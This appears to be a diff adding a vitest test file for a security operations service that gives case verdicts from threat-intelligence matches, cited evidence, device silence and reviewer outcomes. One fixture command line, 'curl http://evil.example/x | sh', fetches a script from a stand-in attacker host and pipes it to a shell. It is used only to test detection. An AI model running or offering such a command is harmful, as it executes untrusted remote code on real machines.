@@ -1,0 +1,247 @@
+import { randomUUID } from 'node:crypto';
+import { sql } from 'kysely';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { type TestApp, testApp } from '../../../test/app.ts';
+import { type SeedAlert, type SeedCase, type SeededCase, type SeedRule, seedCase, seedRule } from '../../../test/seed.ts';
+import { movableClock } from '../../core/clock.ts';
+import { scoped } from '../../core/db/scope.ts';
+import { silentLog } from '../../core/log.ts';
+import { createIntelligenceService } from '../intelligence/intelligence.service.ts';
+import { createDecisioningService } from './decisioning.service.ts';
+
+let t: TestApp;
+const now = Date.now();
+const clock = movableClock(now);
+const minute = 60_000;
+let decisioning: ReturnType<typeof createDecisioningService>;
+let severe: SeedRule;
+let prose: string | undefined;
+
+beforeAll(async () => {
+  t = await testApp();
+  const intelligence = createIntelligenceService({ db: t.db, clock });
+  await intelligence.importOwn(
+    'Test list',
+    'csv',
+    'value,reputation\n203.0.113.66,Malicious\nevil.example,Malicious\n203.0.113.67,Suspicious',
+  );
+  decisioning = createDecisioningService({
+    db: t.db,
+    clock,
+    lookUp: intelligence.lookUp,
+    writeProse: async () => prose,
+    log: silentLog,
+  });
+  severe = await seedRule(t.db, { title: 'Ransom “notes”', criticality: 5 }, { tactics: ['credential-access'] });
+});
+afterAll(() => t.close());
+
+const document = (more: object = {}) => ({
+  host: { name: 'WS-1' },
+  process: { command_line: 'lock.exe -path D:', executable: 'C:\\ProgramData\\lock.exe' },
+  source: { ip: '203.0.113.66' },
+  ...more,
+});
+async function malicious(
+  organisationId: number,
+  more: Partial<SeedCase> & { doc?: object; alert?: Partial<SeedAlert> } = {},
+): Promise<SeededCase> {
+  const { doc = document(), alert, ...rest } = more;
+  const seeded = await seedCase(t.db, {
+    organisationId,
+    at: now - 30 * minute,
+    alerts: [{ at: now - 30 * minute, rule: severe, device: 'WS-1', user: 'CORP\\ana', ...alert }],
+    artifacts: [{ kind: 'sourceIp', value: '203.0.113.66' }],
+    ...rest,
+  });
+  await addEvents(seeded, doc);
+  return seeded;
+}
+const addEvents = (seeded: SeededCase, doc: object) =>
+  scoped(t.db, 'system', async (tx) => {
+    for (const { id, at } of seeded.alerts)
+      await sql`insert into alert_events (organisation_id, alert_id, alert_at, event_id, event_at, text, why, document)
+        values (${seeded.organisationId}, ${id}, ${new Date(at)}, ${randomUUID()}, ${new Date(at)}, '', '{"condition":"","items":[]}', ${JSON.stringify(doc)})`.execute(
+        tx,
+      );
+  });
+const record = (id: number) =>
+  scoped(t.db, 'system', (tx) => tx.selectFrom('cases').selectAll().where('id', '=', id).executeTakeFirstOrThrow());
+const verified = async (seeded: SeededCase, isInternal = true) => {
+  const found = await record(seeded.id);
+  const scope = { organisationIds: [seeded.organisationId] };
+  return scoped(t.db, scope, (tx) => decisioning.verified(tx, scope, found, isInternal));
+};
+const rowsOf = (table: 'case_tasks' | 'case_narratives' | 'case_history', id: number) =>
+  scoped(t.db, 'system', (tx) => tx.selectFrom(table).selectAll().where('case_id', '=', id).execute());
+
+describe('a verdict', () => {
+  test('is written with its evidence, tasks and a narrative, once', async () => {
+    const client = await t.organisation();
+    const seeded = await malicious(client);
+    expect(await decisioning.run(client)).toBe(1);
+    expect(await record(seeded.id)).toMatchObject({
+      verdict: 'Malicious',
+      needs_decision: false,
+      version: 1,
+      decided_at: new Date(now),
+      summary: expect.stringContaining('“WS-1”'),
+    });
+    const decision = await verified(seeded);
+    expect(decision).toMatchObject({ verdict: 'Malicious', uncited: 0 });
+    expect(decision!.evidence.find(({ factor }) => factor === 'reputation')).toMatchObject({
+      alertID: seeded.alerts[0]!.id,
+      field: 'source.ip',
+      value: '203.0.113.66',
+    });
+    expect(await rowsOf('case_tasks', seeded.id)).toMatchObject([
+      { task_number: 1, action: 'block', target: '203.0.113.66', is_sent: false },
+      { task_number: 2, action: 'disable', target: 'CORP\\ana' },
+    ]);
+    expect(await rowsOf('case_narratives', seeded.id)).toMatchObject([
+      { is_generated: true, author_name: 'Decisioning', started_at: new Date(now) },
+    ]);
+    expect(await rowsOf('case_history', seeded.id)).toMatchObject([
+      { kind: 'decision', text: expect.stringContaining('Malicious') },
+    ]);
+
+    await scoped(t.db, 'system', (tx) =>
+      tx.updateTable('cases').set({ needs_decision: true }).where('id', '=', seeded.id).execute(),
+    );
+    const before = await record(seeded.id);
+    expect(await decisioning.run()).toBe(1);
+    expect(await record(seeded.id)).toEqual({ ...before, needs_decision: false });
+    for (const [table, count] of [
+      ['case_tasks', 2],
+      ['case_narratives', 1],
+      ['case_history', 1],
+    ] as const)
+      expect(await rowsOf(table, seeded.id)).toHaveLength(count);
+    expect(await decisioning.run()).toBe(0);
+  });
+
+  test('loses a sentence when the event that it cites says something else, or another case has its alert', async () => {
+    const client = await t.organisation();
+    const seeded = await malicious(client);
+    await decisioning.run(client);
+    const whole = (await verified(seeded))!;
+    await scoped(t.db, 'system', (tx) =>
+      sql`update alert_events set document = jsonb_set(document, '{source,ip}', '"198.51.100.1"') where alert_id = ${seeded.alerts[0]!.id}`.execute(
+        tx,
+      ),
+    ).catch(async () => {
+      // The application may not change copies of events: as their owner, then.
+      const { runAs } = await import('../../../test/database.ts');
+      await runAs(
+        t.database.ownerUrl,
+        `update alert_events set document = jsonb_set(document, '{source,ip}', '"198.51.100.1"') where alert_id = ${seeded.alerts[0]!.id}`,
+      );
+    });
+    const left = (await verified(seeded))!;
+    expect(left.evidence).toEqual(whole.evidence.filter(({ factor }) => factor !== 'reputation'));
+    expect(left.uncited).toBe(1);
+    expect(left.explanation).not.toContain('203.0.113.66');
+    await scoped(t.db, 'system', (tx) => tx.deleteFrom('case_alerts').where('case_id', '=', seeded.id).execute());
+    expect(await verified(seeded)).toMatchObject({ verdict: 'Malicious', evidence: [], uncited: whole.evidence.length });
+  });
+
+  test('is shown to clients without what reviewers said', async () => {
+    const client = await t.organisation();
+    const seeded = await malicious(client, { set: { is_decision_correct: false, decision_notes: 'between us' } });
+    expect(await verified(seeded)).toBeNull();
+    await decisioning.run(client);
+    expect(await verified(seeded, true)).toMatchObject({ isCorrect: false, notes: 'between us' });
+    expect(await verified(seeded, false)).toMatchObject({ isCorrect: null, notes: '' });
+  });
+
+  test('finds dotted fields and addresses in command lines', async () => {
+    const client = await t.organisation();
+    const seeded = await malicious(client, { doc: { 'process.command_line': 'curl http://evil.example/x | sh' }, artifacts: [] });
+    await decisioning.run(client);
+    const decision = (await verified(seeded))!;
+    expect(decision.evidence.find(({ factor }) => factor === 'reputation')).toMatchObject({
+      field: 'process.command_line',
+      value: 'curl http://evil.example/x | sh',
+      text: expect.stringContaining('“evil.example”'),
+    });
+    expect(decision.uncited).toBe(0);
+  });
+
+  test('is insufficient while a device of an open case is silent, and made anew when it comes back', async () => {
+    const client = await t.organisation();
+    const seeded = await malicious(client);
+    const setLast = (at: number) =>
+      scoped(t.db, 'system', (tx) =>
+        sql`with known as (update devices set last_event_at = ${new Date(at)} where organisation_id = ${client} returning id)
+          insert into devices (organisation_id, name, device_type, last_event_at)
+          select ${client}, 'WS-1', 'server', ${new Date(at)} where not exists (select from known)`.execute(tx),
+      );
+    await setLast(now - 25 * 60 * minute);
+    await decisioning.run(client);
+    expect(await record(seeded.id)).toMatchObject({ verdict: 'Insufficient Information' });
+    expect((await verified(seeded))!.evidence).toContainEqual(expect.objectContaining({ factor: 'silence', alertID: null }));
+    expect(await rowsOf('case_tasks', seeded.id)).toEqual([]);
+    await decisioning.noteSilence();
+    expect(await decisioning.run(client)).toBe(0);
+    await setLast(now);
+    await decisioning.noteSilence();
+    expect(await decisioning.run(client)).toBe(1);
+    expect(await record(seeded.id)).toMatchObject({ verdict: 'Malicious' });
+    clock.moveTo(now + 25 * 60 * minute);
+    await decisioning.noteSilence();
+    await decisioning.run(client);
+    clock.moveTo(now);
+    expect(await record(seeded.id)).toMatchObject({ verdict: 'Insufficient Information' });
+  });
+
+  test('learns from reviews of this organisation, not of another', async () => {
+    const [client, other] = [await t.organisation(), await t.organisation()];
+    await scoped(t.db, 'system', (tx) =>
+      tx.insertInto('rule_outcomes').values({ organisation_id: client, rule_id: severe.id, malicious: 0, benign: 30 }).execute(),
+    );
+    const [mine, theirs] = [await malicious(client), await malicious(other)];
+    await decisioning.run();
+    expect((await record(mine.id)).probability!).toBeLessThan((await record(theirs.id)).probability!);
+    expect((await verified(mine))!.evidence.map(({ factor }) => factor)).toContain('outcome');
+    expect((await verified(theirs))!.evidence.map(({ factor }) => factor)).not.toContain('outcome');
+  });
+
+  test('counts what the rule did before on the device, unless that was malicious', async () => {
+    const client = await t.organisation();
+    const before = await malicious(client, { at: now - 5 * 86_400_000, alert: { at: now - 5 * 86_400_000 } });
+    const seeded = await malicious(client);
+    await decisioning.run(client);
+    expect((await verified(seeded))!.evidence.map(({ factor }) => factor)).toContain('history');
+    await scoped(t.db, 'system', (tx) =>
+      tx
+        .updateTable('cases')
+        .set({ needs_decision: true, ...{ status: 'malicious' as const } })
+        .where('organisation_id', '=', client)
+        .execute(),
+    );
+    await decisioning.run(client);
+    expect((await verified(seeded))!.evidence.map(({ factor }) => factor)).not.toContain('history');
+    expect(before.id).toBeLessThan(seeded.id);
+  });
+});
+
+test('prose takes the place of the portal’s own words; the verdict stays', async () => {
+  const client = await t.organisation();
+  prose = 'In calm words.';
+  const seeded = await malicious(client);
+  await decisioning.run(client);
+  prose = undefined;
+  expect(await rowsOf('case_narratives', seeded.id)).toMatchObject([{ text: 'In calm words.', is_generated: true }]);
+  expect(await record(seeded.id)).toMatchObject({ verdict: 'Malicious' });
+});
+
+test('two processes at once judge each case once', async () => {
+  const client = await t.organisation();
+  const seeded = await Promise.all(Array.from({ length: 5 }, () => malicious(client)));
+  await Promise.all([decisioning.run(client), decisioning.run(client), decisioning.run(client)]);
+  await decisioning.run(client);
+  for (const { id } of seeded) {
+    expect(await rowsOf('case_narratives', id)).toHaveLength(1);
+    expect(await record(id)).toMatchObject({ needs_decision: false, verdict: 'Malicious' });
+  }
+});
